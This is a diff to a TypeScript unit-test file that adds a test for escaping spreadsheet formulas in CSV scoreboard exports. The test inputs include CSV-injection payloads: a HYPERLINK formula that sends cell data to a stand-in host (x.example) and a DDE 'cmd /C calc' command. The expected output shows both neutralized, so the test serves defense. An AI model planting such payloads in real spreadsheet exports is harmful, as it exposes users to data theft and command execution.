@@ -3,10 +3,10 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import type { Cell, QueryTable } from '../../src/core/jobs/bigquery';
-import { csvField, scoreboardCsv } from '../../src/core/jobs/csv';
+import { csvField, formulaSafe, scoreboardCsv } from '../../src/core/jobs/csv';
 import { scoreboardRange } from '../../src/core/jobs/dates';
 import { compareScoreboards } from '../../src/core/jobs/scoreboardChange';
-import { formatQueryTable, totalsTexts } from '../../src/core/jobs/table';
+import { formatQueryTable, totalsTexts, type ShownTable } from '../../src/core/jobs/table';
 import { computeTotals, scoreboardOf, type Scoreboard } from '../../src/core/jobs/totals';
 
 const HANDOFF: QueryTable = {
@@ -107,6 +107,36 @@ describe('scoreboard CSV', () => {
     const csv = scoreboardCsv({ columns: ['player, team', 'points', 'note'], rows: [['o"neil', 22, null], ['smith', 4.5, 'x\ny']], totals: ['Total', 26.5, null] });
     assert.equal(csv, '"player, team",points,note\r\n"o""neil",22,\r\nsmith,4.5,"x\ny"\r\nTotal,26.5,\r\n');
     assert.equal(scoreboardCsv({ columns: ['a'], rows: [[1]] }, '\n'), 'a\n1\n');
+  });
+
+  it('neutralizes text a spreadsheet would open as a formula with a leading quote; numbers, negative ones and those sent as text, stay as they are', () => {
+    const table = {
+      columns: ['player', 'note', 'points', 'bias', 'numeric_bias'],
+      rows: [
+        ['=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', 22, -0.29, '-0.29'],
+        ['@SUM(A1:A9)', '-2+3', -4, -1.5, '-12345678901234567890'],
+        ['\tTAB', '\rCR', 0, 0, '1e+21'],
+        ['o-neil', '-', 1, 1, '-'],
+      ],
+      totals: ['=Total', '-', 19, -1.79, '-0.3'],
+    } satisfies ShownTable;
+    const lines = scoreboardCsv(table, '\n').split('\n');
+    assert.deepEqual(lines, [
+      'player,note,points,bias,numeric_bias',
+      `"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+cmd|' /C calc'!A0,22,-0.29,-0.29`,
+      "'@SUM(A1:A9),'-2+3,-4,-1.5,-12345678901234567890",
+      "'\tTAB,\"'\rCR\",0,0,1e+21",
+      "o-neil,'-,1,1,'-",
+      "'=Total,'-,19,-1.79,-0.3",
+      '',
+    ]);
+    // One cell at a time: only text is ever prefixed, and only when it starts a formula and is not a plain number.
+    assert.deepEqual(
+      (['-0.29', '-7', '-.5', '-1e-7', '-1E+5', '12', '=1', '+1', '-1-1', '--1', '-1.2.3', '-0x10', '-Infinity', '@x', 'a=b', ''] as const).map((text) => formulaSafe(text, text)),
+      ['-0.29', '-7', '-.5', '-1e-7', '-1E+5', '12', "'=1", "'+1", "'-1-1", "'--1", "'-1.2.3", "'-0x10", "'-Infinity", "'@x", 'a=b', ''],
+    );
+    assert.equal(formulaSafe(-0.29, '-0.29'), '-0.29');
+    assert.equal(formulaSafe(-Infinity, '-Infinity'), '-Infinity', 'a FLOAT64 number is a number, whatever its text');
   });
 
   it('writes a computed total with its column’s decimals', () => {
